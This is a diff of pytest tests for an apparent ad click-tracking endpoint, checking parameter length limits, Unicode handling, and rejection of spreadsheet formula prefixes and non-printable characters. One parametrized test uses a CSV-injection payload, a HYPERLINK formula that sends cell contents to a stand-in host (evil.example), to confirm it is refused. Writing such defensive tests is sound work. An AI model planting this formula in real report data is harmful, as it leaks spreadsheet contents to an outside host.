@@ -156,12 +156,30 @@ def test_track_without_pid_is_400_and_records_nothing(api_client, query):
     assert written_rows() == NOTHING_WRITTEN
 
 
-def test_track_parameter_too_long_is_400(api_client):
-    response = api_client.get("/track", {"pid": "p" * 256})
+@pytest.mark.parametrize(
+    ("name", "length"),
+    [("pid", 257), ("c", 257), ("af_sub5", 257), ("deep_link_value", 2049)],
+)
+def test_track_parameter_too_long_is_400(api_client, name, length):
+    response = api_client.get("/track", {"pid": "p", name: "p" * length})
 
     assert response.status_code == 400
-    assert [(e["field"], e["code"]) for e in response.json()["errors"]] == [("pid", "max_length")]
+    assert [(e["field"], e["code"]) for e in response.json()["errors"]] == [(name, "max_length")]
     assert written_rows() == NOTHING_WRITTEN
+
+
+def test_track_parameters_of_the_maximum_length_are_stored(api_client):
+    query = dict.fromkeys(("pid", "c", "af_adset", "af_ad", "clickid", "af_sub1"), "p" * 256)
+    query["deep_link_value"] = "d" * 2048
+    redirect = "https://play.example.com/" + "r" * (2048 - 25)
+
+    response = api_client.get("/track", {**query, "redirect": redirect})
+
+    assert response.status_code == 302
+    assert Click.objects.values_list(
+        "media_source", "campaign", "adset", "ad", "network_click_id", "sub1", "deep_link_value"
+    ).get() == ("p" * 256,) * 6 + ("d" * 2048,)
+    assert len(Click.objects.get().redirect_url) == 2048
 
 
 def test_track_nul_in_a_parameter_is_400(api_client):
@@ -316,3 +334,71 @@ def test_track_redirects_to_an_allowed_ipv6_host_and_an_empty_port(api_client, t
 
     assert response.status_code == 302
     assert response["Location"] == target
+
+
+# --- Text that reaches report files and spreadsheets --------------------------------------------
+
+
+@pytest.mark.parametrize("name", ["pid", "c", "af_adset", "af_ad"])
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
+def test_track_report_keys_starting_with_a_formula_prefix_are_400(api_client, name, prefix):
+    value = f'{prefix}HYPERLINK("https://evil.example/?"&A1,"open")'
+    response = api_client.get("/track", {"pid": "p", name: value})
+
+    assert response.status_code == 400
+    assert response.json()["code"] == "validation_error"
+    assert response.json()["errors"] == [
+        {"field": name, "code": "formula_prefix", "message": "Must not start with =, +, - or @."}
+    ]
+    assert written_rows() == NOTHING_WRITTEN
+
+
+def test_track_formula_characters_inside_a_value_and_in_other_parameters_are_kept(api_client):
+    query = {
+        "pid": "net=work",
+        "c": "sale +50% @home",
+        "clickid": "-123",
+        "af_sub1": "=not_a_report_key",
+        "deep_link_value": "@level/42",
+    }
+
+    response = api_client.get("/track", query)
+
+    assert response.status_code == 200
+    assert Click.objects.values_list(
+        "media_source", "campaign", "network_click_id", "sub1", "deep_link_value"
+    ).get() == ("net=work", "sale +50% @home", "-123", "=not_a_report_key", "@level/42")
+
+
+@pytest.mark.parametrize("name", ["pid", "c", "af_ad", "clickid", "deep_link_value", "af_sub3"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "a\tb",
+        "a\nb",
+        "a\rb",
+        "\tleading_tab",
+        "a\x7fb",
+        "a\x85b",  # NEL
+        "a\u200bb",  # zero-width space (format)
+        "a\u202eb",  # right-to-left override
+        "a\u2028b",  # line separator
+        "a\ufeffb",  # byte order mark
+    ],
+)
+def test_track_text_that_is_not_printable_is_400(api_client, name, text):
+    response = api_client.get("/track", {"pid": "p", name: text})
+
+    assert response.status_code == 400
+    assert [(e["field"], e["code"]) for e in response.json()["errors"]] == [(name, "invalid_text")]
+    assert written_rows() == NOTHING_WRITTEN
+
+
+def test_track_printable_unicode_and_spaces_are_stored(api_client):
+    response = api_client.get("/track", {"pid": "réseau social", "c": "été 🎮 夏"})
+
+    assert response.status_code == 200
+    assert Click.objects.values_list("media_source", "campaign").get() == (
+        "réseau social",
+        "été 🎮 夏",
+    )
